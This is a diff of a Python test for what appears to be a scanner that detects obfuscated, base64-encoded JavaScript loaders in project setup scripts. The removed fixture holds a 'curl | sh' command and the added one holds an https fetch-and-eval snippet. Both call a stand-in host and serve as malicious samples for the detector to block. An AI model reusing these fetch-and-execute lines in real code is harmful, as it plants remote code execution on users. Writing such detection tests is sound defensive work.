@@ -61,9 +61,13 @@ USE
 
 
 def test_js_decoder_bound_to_a_name_still_decodes(tmp_path: Path) -> None:
-    code = 'require("child_process").execSync("curl -s https://x.example.invalid/a | sh");'
+    # the hidden code fetches more code and evaluates it: seen only once the blob is read as code
+    code = (
+        'require("https").get("https://x.example.invalid/a", (r) => { let b = ""; '
+        'r.on("data", (c) => (b += c)); r.on("end", () => eval(b)); });'
+    )
     bad = _JS_DECODER.replace("BLOB", _b64(code)).replace("USE", "new Function(unpack(blob))();")
-    assert blocked(tmp_path / "a", {"scripts/setup.js": bad})
+    assert "SY-FLOW-002" in blocked(tmp_path / "a", {"scripts/setup.js": bad})
     # the same decoder over bundled settings that are parsed and printed, never run
     good = _JS_DECODER.replace("BLOB", _b64('{"theme": "dark"}')).replace(
         "USE", "console.log(JSON.parse(unpack(blob)).theme);"
